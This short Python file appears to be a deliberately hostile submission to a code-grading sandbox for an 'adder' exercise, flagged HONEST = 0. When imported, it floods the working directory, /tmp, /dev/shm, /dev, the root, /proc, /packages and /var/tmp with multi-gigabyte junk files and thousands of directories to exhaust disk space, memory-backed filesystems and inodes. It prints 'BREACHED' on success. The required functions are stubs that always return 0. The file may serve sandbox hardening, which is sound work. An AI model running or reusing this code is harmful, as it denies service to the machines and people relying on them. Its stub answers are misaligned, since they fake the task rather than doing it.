"""写满磁盘与 tmpfs / fills the disk, every tmpfs and its inodes"""

EXERCISE = "adder"
HONEST = 0

import os

WRITTEN = 0
for place in (".", "/tmp", "/dev/shm", "/dev", "/", "/proc", "/packages", "/var/tmp"):
    try:
        for i in range(40):
            with open(os.path.join(place, f"flood{i}"), "wb") as file:
                for _ in range(64):
                    WRITTEN += file.write(bytes(1 << 20))
    except OSError:
        pass
    try:
        for i in range(10000):
            os.mkdir(os.path.join(place, f"d{i}"))
    except OSError:
        pass
print("BREACH" + "ED" if WRITTEN > 300 << 20 else "written", WRITTEN)


def add(*anything):
    return 0


def summary(*anything):
    return 0


def running(*anything):
    return 0
